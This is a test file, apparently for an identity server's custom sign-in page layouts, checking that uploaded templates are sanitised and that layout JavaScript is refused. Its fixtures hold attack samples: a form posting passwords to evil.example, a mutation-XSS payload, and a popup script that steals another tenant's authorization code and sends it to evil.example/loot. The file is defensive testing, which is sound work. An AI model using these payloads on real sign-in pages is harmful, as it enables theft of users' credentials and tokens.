import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LAYOUT_SCRIPT_REFUSED } from '../../src/services/policies.js';
import { createApp, requireApp } from '../../src/services/apps.js';
import { createTenant } from '../../src/services/tenants.js';
import { ADMIN_API_URI } from '../../src/services/admin-api.js';
import { finishFlow, newPage as newBrowserPage, startFlow as startBrowserFlow, type Flow } from '../helpers/browser-flow.js';
import { launchBrowser, startRelyingParty, type RelyingParty } from '../helpers/browser.js';
import { freePort } from '../helpers/ports.js';
import { waitForPolicy, writePolicy } from '../helpers/policies.js';
import { startServer, type TestServer } from '../helpers/server.js';
import { LOOPBACK_ALLOWED } from '../helpers/outbound.js';

/**
 * B2C's custom page layouts, as a team moving off B2C uses them: the same template URLs (here served by
 * a local HTTP server standing in for their storage account), in headless Chromium.
 */
const OUTPUT = join(import.meta.dirname, '..', '..', 'test-results');

/** The customer's template: B2C's contract (an HTML5 page with `<div id="api">`), plus things that must go. */
const TEMPLATE = `<!DOCTYPE html>
<html>
<head>
  <title>Contoso sign-in</title>
  <link rel="stylesheet" href="../styles/contoso.css">
  <script>document.documentElement.dataset.headScript = 'ran';</script>
</head>
<body>
  <header class="brand"><img src="../img/logo.svg" alt="Contoso"></header>
  <form action="https://evil.example/steal" method="post"><input name="password"></form>
  <iframe src="https://evil.example/frame"></iframe>
  <div id="api">This text is replaced by the form.</div>
  <a href="javascript:alert(1)" id="bad-link">bad</a>
  <p onclick="document.body.dataset.clicked = 'yes'" id="handler">handler</p>
  <script>document.body.dataset.bodyScript = 'ran';</script>
</body>
</html>`;

/** The reported mutation-XSS template: after re-serialization a browser built a real form that took Latchkey's inputs. */
const MXSS_TEMPLATE = '<math><mtext><table><mglyph><style><img><form action="https://evil.example/steal" method="post"></style></mglyph></table></mtext></math><div id="api">';

/**
 * A tenant administrator's layout that steals another tenant's users' tokens: all tenants share one
 * origin, so a same-origin popup to the victim tenant's /authorize (prompt=none, form_post, a PKCE
 * challenge the attacker chose) could be read by this script, and the code redeemed.
 */
const popupTemplate = (victimAuthorize: string) => `<!DOCTYPE html>
<html><head><title>Contoso</title>
<script>
  document.documentElement.dataset.headScript = 'ran';
  var w = window.open(${JSON.stringify(victimAuthorize)}, 'steal', 'width=1,height=1');
  setInterval(function () {
    try {
      var f = w.document.getElementById('form-post');
      if (f) { new Image().src = 'https://evil.example/loot?code=' + encodeURIComponent(f.elements.code.value); w.close(); }
    } catch (e) {}
  }, 50);
</script>
</head><body><div id="api"></div></body></html>`;
let POPUP_TEMPLATE = '';

const CSS = `body { background-color: rgb(10, 20, 30); font-family: sans-serif; color: #222; margin: 0; }
.brand { padding: 16px 24px; }
.brand img { width: 40px; height: 40px; }
#api { background: #fff; max-width: 420px; margin: 24px auto; padding: 24px 32px; border-radius: 8px; }
#api h1 { font-size: 22px; margin: 0 0 8px; }
#api h2 { font-size: 15px; color: #555; }
#api label { display: block; font-weight: 600; margin-top: 12px; }
#api input.textInput { width: 100%; padding: 8px; box-sizing: border-box; border: 1px solid #999; border-radius: 4px; }
#api ul { list-style: none; padding: 0; }
#api .buttons { margin-top: 16px; display: flex; gap: 8px; }
#api button { padding: 8px 20px; border-radius: 4px; border: 1px solid #999; background: #fff; }
#api #next { background-color: rgb(200, 0, 0); color: #fff; border: 0; }
#api button.link { background: none; border: 0; color: rgb(0, 90, 200); text-decoration: underline; padding: 0; }
li.TextBox.givenName_li label { color: rgb(0, 128, 0); }`;

interface TemplateServer {
  url: string;
  requests: string[];
  close(): Promise<void>;
}

async function startTemplateServer(): Promise<TemplateServer> {
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    requests.push(path);
    if (/^\/(en|de|fr|es|nl)\/unified\.html$/.test(path)) {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(TEMPLATE);
    } else if (path === '/mxss.html') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(MXSS_TEMPLATE);
    } else if (path === '/popup.html') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(POPUP_TEMPLATE);
    } else if (path === '/no-api.html') {
      res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><html><head><title>x</title></head><body><div id="main"></div></body></html>');
    } else if (path === '/styles/contoso.css') {
      res.writeHead(200, { 'content-type': 'text/css' }).end(CSS);
    } else if (path === '/img/logo.svg') {
      res.writeHead(200, { 'content-type': 'image/svg+xml' }).end('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1" fill="#0a5"/></svg>');
    } else {
      res.writeHead(404).end();
    }
  });
  const port = await freePort();
  await new Promise<void>((r) => server.listen(port, '127.0.0.1', () => r()));
  return { url: `http://127.0.0.1:${port}`, requests, close: () => new Promise((r) => server.close(() => r())) };
}

let s: TestServer;
let rp: RelyingParty;
let browser: Browser;
let templates: TemplateServer;
let appId: string;
let deadPort: number;

function startFlow(policy: string, extra: Record<string, string> = {}): Promise<Flow> {
  return startBrowserFlow({ baseUrl: s.baseUrl, policy, clientId: appId, redirectUri: `${rp.url}/cb`, extra });
}

beforeAll(async () => {
  // The template server runs on this machine: the operator allows it.
  s = await startServer({ env: { LATCHKEY_OUTBOUND_ALLOW: LOOPBACK_ALLOWED } });
  rp = await startRelyingParty();
  browser = await launchBrowser();
  templates = await startTemplateServer();
  deadPort = await freePort();
  appId = (await s.createApp({ name: 'app', type: 'native', redirectUris: [`${rp.url}/cb`] })).app.clientId;
  // A self-asserted layout given as a file in the tenant's folder, with its stylesheet beside it.
  const layouts = join(s.dir, 'policies', 'demo', 'layouts');
  mkdirSync(layouts, { recursive: true });
  writeFileSync(join(layouts, 'selfasserted.html'), TEMPLATE.replace('../styles/contoso.css', 'contoso.css').replace('../img/logo.svg', 'logo.svg'));
  writeFileSync(join(layouts, 'contoso.css'), CSS);
  writeFileSync(join(layouts, 'logo.svg'), '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1"/></svg>');
  writePolicy(s, 'B2C_1_branded', {
    signUp: { verifyEmail: false, attributes: [{ claim: 'given_name', label: 'Given name', required: true }] },
    ui: {
      pageLayouts: {
        unifiedssp: `${templates.url}/{Culture:RFC5646}/unified.html`,
        selfasserted: 'layouts/selfasserted.html',
        globalexception: `${templates.url}/{Culture:RFC5646}/unified.html`,
      },
    },
  });
  writePolicy(s, 'B2C_1_branded_down', { ui: { pageLayouts: { unifiedssp: `http://127.0.0.1:${deadPort}/unified.html` } } });
  writePolicy(s, 'B2C_1_branded_mxss', { ui: { pageLayouts: { unifiedssp: `${templates.url}/mxss.html` } } });
  // Another tenant, whose users the popup template goes after.
  const victim = await createTenant(s.provision, 'fabrikam');
  const victimApp = (await createApp(s.provision, victim, { name: 'victim-spa', type: 'spa', redirectUris: ['https://app.fabrikam.example/cb'] })).app.clientId;
  POPUP_TEMPLATE = popupTemplate(
    `${s.baseUrl}/fabrikam/B2C_1_signupsignin/oauth2/v2.0/authorize?${new URLSearchParams({ client_id: victimApp, redirect_uri: 'https://app.fabrikam.example/cb', response_type: 'code', scope: 'openid offline_access', prompt: 'none', response_mode: 'form_post', code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM', code_challenge_method: 'S256' })}`,
  );
  for (const id of ['B2C_1_branded', 'B2C_1_branded_down', 'B2C_1_branded_mxss']) await waitForPolicy(s, id);
});

afterAll(async () => {
  await browser?.close();
  await rp?.close();
  await templates?.close();
  await s?.close();
});

describe('custom page layouts', () => {
  it("puts the form with B2C's ids in the template's #api, applies its CSS, strips its form, frames and scripts, and signs in", async () => {
    const user = await s.createUser('lay@example.com', 'lay-password-1');
    const flow = await startFlow('B2C_1_branded');
    const { context, page } = await newBrowserPage(browser);
    await page.goto(flow.url.toString());
    // The template fetched server-side, in the page's language ({Culture:RFC5646} → en).
    expect(templates.requests).toContain('/en/unified.html');
    await expect(page.title()).resolves.toBe('Contoso sign-in');
    for (const id of ['localAccountForm', 'signInName', 'password', 'next', 'forgotPassword', 'createAccount', 'cancel']) {
      expect(await page.locator(`#api #${id}`).count(), id).toBe(1);
    }
    expect(await page.locator('#api .intro').count()).toBeGreaterThan(0);
    expect(await page.locator('#api').getAttribute('data-name')).toBe('Unified');
    expect(await page.locator('html').getAttribute('lang')).toBe('en');
    // The template's stylesheet (relative URL resolved against the template's) styles B2C's ids.
    expect(await page.evaluate("getComputedStyle(document.querySelector('#next')).backgroundColor")).toBe('rgb(200, 0, 0)');
    expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).toBe('rgb(10, 20, 30)');
    await page.evaluate("new Promise((r) => { const img = document.querySelector('.brand img'); if (img.complete) r(); else img.onload = r; })");
    expect(await page.evaluate("document.querySelector('.brand img').naturalWidth")).toBeGreaterThan(0);
    // What could take the page over is gone: the template's form, iframe, scripts, handlers, javascript: links.
    expect(await page.locator('form[action*="evil"]').count()).toBe(0);
    expect(await page.locator('iframe').count()).toBe(0);
    expect(await page.evaluate('[document.documentElement.dataset.headScript, document.body.dataset.bodyScript]')).toEqual([undefined, undefined]);
    expect(await page.locator('#handler').getAttribute('onclick')).toBeNull();
    expect(await page.locator('#bad-link').getAttribute('href')).toBeNull();
    expect(await page.locator('#api').textContent()).not.toContain('This text is replaced');
    mkdirSync(OUTPUT, { recursive: true });
    await page.screenshot({ path: join(OUTPUT, 'page-layout-unifiedssp.png'), fullPage: true });

    await page.getByLabel('Email Address').fill('lay@example.com');
    await page.getByLabel('Password').fill('lay-password-1');
    await page.getByRole('button', { name: 'Sign in' }).click();
    expect((await finishFlow(page, flow)).claims()!.oid).toBe(user.id);
    await context.close();
  });

  it("uses a file template for the self-asserted pages, its assets served from the tenant's folder", async () => {
    const flow = await startFlow('B2C_1_branded');
    const { context, page } = await newBrowserPage(browser);
    await page.goto(flow.url.toString());
    await page.getByRole('button', { name: 'Sign up now' }).click();
    expect(await page.locator('#api').getAttribute('data-name')).toBe('SelfAsserted');
    await page.getByLabel('Email Address').fill('new-lay@example.com');
    await page.getByRole('button', { name: 'Continue' }).click();
    expect(await page.locator('#api #attributeList li.TextBox.givenName_li #givenName').count()).toBe(1);
    expect(await page.locator('#api #attributeList li.Password.newPassword_li #newPassword').count()).toBe(1);
    expect(await page.evaluate("getComputedStyle(document.querySelector('li.TextBox.givenName_li label')).color")).toBe('rgb(0, 128, 0)');
    await page.screenshot({ path: join(OUTPUT, 'page-layout-selfasserted.png'), fullPage: true });
    // An error is announced on the field, inside the template.
    await page.getByRole('button', { name: 'Create' }).click();
    expect(await page.locator('#api .error.itemLevel[role=alert]').count()).toBeGreaterThan(0);
    await page.getByLabel('New Password', { exact: true }).fill('lay-password-2');
    await page.getByLabel('Confirm New Password').fill('lay-password-2');
    await page.getByLabel('Given name').fill('Lay');
    await page.getByRole('button', { name: 'Create' }).click();
    const tokens = await finishFlow(page, flow);
    expect(tokens.claims()!.given_name).toBe('Lay');
    await context.close();
  });

  it("refuses template JavaScript on the shared host: a layout script that would read another tenant's sign-in never loads", async () => {
    // The last good version: the same template, without JavaScript.
    writePolicy(s, 'B2C_1_branded_js', { ui: { title: 'Last good', pageLayouts: { unifiedssp: `${templates.url}/popup.html` } } });
    await waitForPolicy(s, 'B2C_1_branded_js');
    // The attack: the layout's script enabled. The loader keeps the last good version and logs why.
    writePolicy(s, 'B2C_1_branded_js', { ui: { title: 'Attack', pageLayouts: { unifiedssp: { template: `${templates.url}/popup.html`, javaScript: true } } } });
    const refused = async () => s.logs.find((l) => l.msg === `invalid policy, keeping the last good version: ${String(l.file)}: $.ui.pageLayouts.unifiedssp.javaScript: ${LAYOUT_SCRIPT_REFUSED}`);
    for (let i = 0; i < 200 && !(await refused()); i++) await new Promise((r) => setTimeout(r, 25));
    expect(await refused()).toBeDefined();
    expect(s.deps.policies.get('demo', 'B2C_1_branded_js')?.ui.title).toBe('Last good');

    // In the browser: the page is served with the last good version; the script is gone and no popup opens.
    const flow = await startFlow('B2C_1_branded_js');
    const { context, page } = await newBrowserPage(browser);
    const popups: string[] = [];
    context.on('page', (p) => popups.push(p.url()));
    const res = await page.goto(flow.url.toString());
    expect(res!.headers()['content-security-policy']).toMatch(/script-src 'self';/);
    expect(await page.evaluate('document.documentElement.dataset.headScript')).toBeUndefined();
    expect(await page.locator('#api #localAccountForm').count()).toBe(1);
    expect(popups).toEqual([]);
    await context.close();

    // Through the admin API (a tenant administrator's token): 400, with the reason at its JSON path.
    const tenant = (await s.deps.store.findTenant('demo'))!;
    const { app, clientSecret } = await createApp(s.provision, tenant, { name: 'tenant-admin', type: 'daemon' });
    const adminApi = await requireApp(s.provision, tenant, ADMIN_API_URI);
    await s.deps.store.addGrant({ clientId: app.clientId, apiClientId: adminApi.clientId, kind: 'role', name: 'Admin.ReadWrite.All' });
    const token = (await (await fetch(`${s.baseUrl}/demo/B2C_1_signin/oauth2/v2.0/token`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: `Basic ${Buffer.from(`${app.clientId}:${clientSecret!}`).toString('base64')}` },
      body: new URLSearchParams({ grant_type: 'client_credentials', scope: `${ADMIN_API_URI}/.default` }),
    })).json()) as { access_token: string };
    const policy = { id: 'B2C_1_api_popup', kind: 'signUpOrSignIn', ui: { pageLayouts: { unifiedssp: { template: `${templates.url}/popup.html`, javaScript: true } } } };
    const put = await fetch(`${s.baseUrl}/admin/v1/tenants/demo/policies/B2C_1_api_popup`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${token.access_token}`, 'content-type': 'application/json' },
      body: JSON.stringify(policy),
    });
    expect(put.status).toBe(400);
    expect(await put.json()).toEqual({ valid: false, problems: [{ path: '$.ui.pageLayouts.unifiedssp.javaScript', message: LAYOUT_SCRIPT_REFUSED }] });
    expect((await fetch(`${s.baseUrl}/demo/B2C_1_api_popup/v2.0/.well-known/openid-configuration`)).status).toBe(404);
  });

  it("renders the mutation-XSS template with Latchkey's form intact and forms posting nowhere but Latchkey", async () => {
    const user = await s.createUser('mxss@example.com', 'mxss-password-1');
    const flow = await startFlow('B2C_1_branded_mxss');
    const { context, page } = await newBrowserPage(browser);
    const leaked: string[] = [];
    await context.route(/evil\.example/, (route) => {
      leaked.push(route.request().url());
      return route.abort();
    });
    const res = await page.goto(flow.url.toString());
    expect(templates.requests).toContain('/mxss.html');
    expect(await page.locator('#api').getAttribute('data-name')).toBe('Unified');
    // Every form on the page is Latchkey's and posts to the journey; none goes to evil.example.
    // (getAttribute: a form's `action` property is its field named "action" when it has one, as B2C's buttons are.)
    const forms = (await page.evaluate("Array.from(document.forms).map((f) => new URL(f.getAttribute('action'), location.href).href)")) as string[];
    expect(forms.length).toBeGreaterThan(0);
    expect(new Set(forms)).toEqual(new Set([page.url()]));
    expect(await page.locator('[action*="evil.example"], [formaction*="evil.example"]').count()).toBe(0);
    expect(await page.locator('math, svg').count()).toBe(0);
    expect(await page.evaluate("document.getElementById('password').form.id")).toBe('localAccountForm');
    // The page's CSP lets forms post to Latchkey only.
    const csp = res!.headers()['content-security-policy']!;
    expect(csp).toMatch(/form-action 'self';/);
    expect(csp).not.toMatch(/form-action[^;]*\*/);
    await page.getByLabel('Email Address').fill('mxss@example.com');
    await page.getByLabel('Password').fill('mxss-password-1');
    await page.getByRole('button', { name: 'Sign in' }).click();
    expect((await finishFlow(page, flow)).claims()!.oid).toBe(user.id);
    expect(leaked).toEqual([]);
    await context.close();
  });

  it("stops a form that got into a templated page from posting anywhere but Latchkey (form-action 'self')", async () => {
    const flow = await startFlow('B2C_1_branded_mxss');
    const { context, page } = await newBrowserPage(browser);
    const leaked: string[] = [];
    await context.route(/evil\.example/, (route) => {
      leaked.push(route.request().url());
      return route.abort();
    });
    await page.goto(flow.url.toString());
    const violated = await page.evaluate(`new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective));
      const f = document.createElement('form');
      f.method = 'post';
      f.action = 'https://evil.example/steal';
      document.body.append(f);
      f.submit();
    })`);
    expect(violated).toBe('form-action');
    expect(leaked).toEqual([]);
    await context.close();
  });

  it('falls back to the default layout when the template cannot be fetched, and the page still works', async () => {
    const user = await s.createUser('down@example.com', 'down-password-1');
    const flow = await startFlow('B2C_1_branded_down');
    const { context, page } = await newBrowserPage(browser);
    await page.goto(flow.url.toString());
    expect(await page.locator('link[href="/static/latchkey.css"]').count()).toBe(1);
    expect(await page.locator('main #api #localAccountForm').count()).toBe(1);
    expect(s.logs.some((l) => l.msg === 'page layout unavailable: pages use the default layout' && String(l.template).includes(String(deadPort)))).toBe(true);
    await page.getByLabel('Email Address').fill('down@example.com');
    await page.getByLabel('Password').fill('down-password-1');
    await page.getByRole('button', { name: 'Sign in' }).click();
    expect((await finishFlow(page, flow)).claims()!.oid).toBe(user.id);
    await context.close();
  });

  it("shows errors that cannot go back to the app in the policy's error-page layout", async () => {
    const { context, page } = await newBrowserPage(browser);
    const res = await page.goto(`${s.baseUrl}/demo/B2C_1_branded/oauth2/v2.0/authorize?client_id=00000000-0000-0000-0000-000000000000&redirect_uri=${encodeURIComponent(`${rp.url}/cb`)}&response_type=code&scope=openid&ui_locales=fr`);
    expect(res!.status()).toBe(400);
    await expect(page.title()).resolves.toBe('Contoso sign-in');
    expect(await page.locator('#api').getAttribute('data-name')).toBe('GlobalException');
    await expect(page.locator('#api h1').textContent()).resolves.toBe('Désolé, nous ne pouvons pas traiter votre demande');
    expect(await page.evaluate("getComputedStyle(document.body).backgroundColor")).toBe('rgb(10, 20, 30)');
    await context.close();
  });

  it('fetches the template in the language the app asks for', async () => {
    const flow = await startFlow('B2C_1_branded', { ui_locales: 'de-AT de' });
    const { context, page } = await newBrowserPage(browser);
    await page.goto(flow.url.toString());
    expect(templates.requests).toContain('/de/unified.html');
    expect(await page.locator('html').getAttribute('lang')).toBe('de');
    await expect(page.locator('#next').textContent()).resolves.toBe('Anmelden');
    await expect(page.locator('label[for=signInName]').textContent()).resolves.toBe('E-Mail-Adresse');
    await context.close();
  });
});
